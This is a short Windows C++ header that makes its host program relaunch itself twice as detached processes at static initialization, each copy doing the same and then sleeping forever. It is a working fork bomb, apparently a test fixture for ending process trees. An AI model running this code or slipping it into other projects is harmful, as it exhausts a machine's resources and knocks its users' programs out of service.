// spawns_a_tree.hpp - starts itself twice, and so does each that it has started.
#pragma once

#include "common/win32/windows.hpp"

inline void start_this_program() {
    wchar_t path[MAX_PATH];
    (void)::GetModuleFileNameW(nullptr, path, MAX_PATH);
    STARTUPINFOW startup{};
    startup.cb = sizeof startup;
    PROCESS_INFORMATION started{};
    (void)::CreateProcessW(path, nullptr, nullptr, nullptr, FALSE, DETACHED_PROCESS, nullptr,
                           nullptr, &startup, &started);
}

inline const int spawned = [] {
    start_this_program();
    start_this_program();
    ::Sleep(INFINITE);  // on purpose: it has to be ended
    return 0;
}();
